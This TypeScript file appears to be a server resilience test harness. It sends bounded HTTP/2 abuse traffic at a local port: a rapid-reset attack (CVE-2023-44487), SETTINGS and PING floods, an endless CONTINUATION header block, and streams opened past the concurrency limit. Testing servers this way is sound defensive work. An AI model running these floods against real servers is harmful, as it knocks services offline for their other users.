import { ERROR, FLAG, FRAME, frame, H2Wire, literalNamed, requestBlock, type WireOutcome } from './h2-wire.js';

/**
 * HTTP/2 abuse against the booster port, each bounded in frames and time: what a hostile or broken
 * client can do to one connection. Each returns what the server answered on the attacker's
 * connection; the caller measures the other users meanwhile.
 */
export interface AbuseResult {
  name: string;
  /** What was sent, in words (frames, streams). */
  sent: string;
  outcome: WireOutcome;
  ms: number;
}

export interface AbuseCase {
  name: string;
  run(port: number): Promise<AbuseResult>;
}

const AUTHORITY = 'localhost';
const BATCH = 200;

function summary(o: WireOutcome): string {
  const resets = [...o.resets].map(([code, n]) => `${n}×${code}`).join(',') || '0';
  const statuses = [...o.statuses].map(([s, n]) => `${n}×${s}`).join(',') || '0';
  return `goaway=${o.goaway ?? '-'} rst=[${resets}] answers=[${statuses}] pingAcks=${o.pingAcks} settingsAcks=${o.settingsAcks} closed=${o.closed}`;
}

export { summary as describeOutcome };

async function timed(name: string, port: number, body: (w: H2Wire) => Promise<string>): Promise<AbuseResult> {
  const started = Date.now();
  const wire = await H2Wire.open(port);
  try {
    const sent = await body(wire);
    // The server's last word: give it a moment to answer or close.
    await wire.closedWithin(1500);
    return { name, sent, outcome: wire.out, ms: Date.now() - started };
  } finally {
    wire.close();
  }
}

/** CVE-2023-44487: open a stream and cancel it at once, over and over, never waiting for an answer. */
export function rapidReset(streams = 20_000, connections = 2): AbuseCase {
  return {
    name: 'rapid reset (CVE-2023-44487)',
    async run(port) {
      const started = Date.now();
      const runs = await Promise.all(
        Array.from({ length: connections }, () =>
          timed('rapid reset', port, async (w) => {
            let id = 1;
            let opened = 0;
            while (opened < streams / connections && !w.out.closed && Date.now() - started < 20_000) {
              const batch: Buffer[] = [];
              for (let i = 0; i < BATCH; i++, id += 2, opened++) {
                batch.push(frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, requestBlock('/login', AUTHORITY)));
                batch.push(frame(FRAME.RST_STREAM, 0, id, Buffer.from([0, 0, 0, ERROR.CANCEL])));
              }
              if (!(await w.send(Buffer.concat(batch)))) break;
            }
            return `${opened} streams opened and reset`;
          }),
        ),
      );
      return merge('rapid reset (CVE-2023-44487)', runs, started);
    },
  };
}

/** SETTINGS frames, each of which the server must acknowledge, as fast as the socket takes them. */
export function settingsFlood(frames = 50_000): AbuseCase {
  return {
    name: 'SETTINGS flood',
    run: (port) =>
      timed('SETTINGS flood', port, async (w) => {
        const one = frame(FRAME.SETTINGS, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100])); // MAX_CONCURRENT_STREAMS=100
        let sent = 0;
        while (sent < frames && !w.out.closed) {
          if (!(await w.send(Buffer.concat(Array(BATCH).fill(one))))) break;
          sent += BATCH;
        }
        return `${sent} SETTINGS frames`;
      }),
  };
}

/** PING frames, each of which the server must answer. */
export function pingFlood(frames = 50_000): AbuseCase {
  return {
    name: 'PING flood',
    run: (port) =>
      timed('PING flood', port, async (w) => {
        const one = frame(FRAME.PING, 0, 0, Buffer.alloc(8, 7));
        let sent = 0;
        while (sent < frames && !w.out.closed) {
          if (!(await w.send(Buffer.concat(Array(BATCH).fill(one))))) break;
          sent += BATCH;
        }
        return `${sent} PING frames`;
      }),
  };
}

/** A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames without it (up to `bytes`). */
export function continuationFlood(bytes = 32 * 1024 * 1024): AbuseCase {
  return {
    name: 'CONTINUATION without END_HEADERS',
    run: (port) =>
      timed('CONTINUATION without END_HEADERS', port, async (w) => {
        await w.send(frame(FRAME.HEADERS, 0, 1, requestBlock('/login', AUTHORITY)));
        // Each fragment is a complete literal field, so the block stays valid HPACK as it grows.
        const field = literalNamed('x-pad', 'p'.repeat(16_000));
        const one = frame(FRAME.CONTINUATION, 0, 1, field);
        let sent = 0;
        while (sent < bytes && !w.out.closed) {
          if (!(await w.send(Buffer.concat(Array(16).fill(one))))) break;
          sent += 16 * field.length;
        }
        return `${Math.round(sent / 1024)} KiB of CONTINUATION frames`;
      }),
  };
}

/** More streams at once than SETTINGS_MAX_CONCURRENT_STREAMS allows: POSTs whose bodies never come. */
export function streamsPastTheLimit(streams = 400): AbuseCase {
  return {
    name: `${streams} concurrent streams (limit 128)`,
    run: (port) =>
      timed(`${streams} concurrent streams`, port, async (w) => {
        const batch: Buffer[] = [];
        for (let i = 0, id = 1; i < streams; i++, id += 2)
          batch.push(frame(FRAME.HEADERS, FLAG.END_HEADERS, id, requestBlock('/login', AUTHORITY, { method: 'POST' })));
        await w.send(Buffer.concat(batch));
        // Hold them open a while, as a client that never sends the bodies does.
        await new Promise((r) => setTimeout(r, 3000));
        return `${streams} POST streams opened, no body sent`;
      }),
  };
}

function merge(name: string, runs: AbuseResult[], started: number): AbuseResult {
  const outcome: WireOutcome = { goaway: null, resets: new Map(), statuses: new Map(), pingAcks: 0, settingsAcks: 0, closed: true, bytesSent: 0 };
  for (const r of runs) {
    outcome.goaway ??= r.outcome.goaway;
    for (const [k, v] of r.outcome.resets) outcome.resets.set(k, (outcome.resets.get(k) ?? 0) + v);
    for (const [k, v] of r.outcome.statuses) outcome.statuses.set(k, (outcome.statuses.get(k) ?? 0) + v);
    outcome.pingAcks += r.outcome.pingAcks;
    outcome.settingsAcks += r.outcome.settingsAcks;
    outcome.closed &&= r.outcome.closed;
    outcome.bytesSent += r.outcome.bytesSent;
  }
  return { name, sent: runs.map((r) => r.sent).join(' + '), outcome, ms: Date.now() - started };
}

export const ABUSE_CASES: AbuseCase[] = [rapidReset(), settingsFlood(), pingFlood(), continuationFlood(), streamsPastTheLimit()];
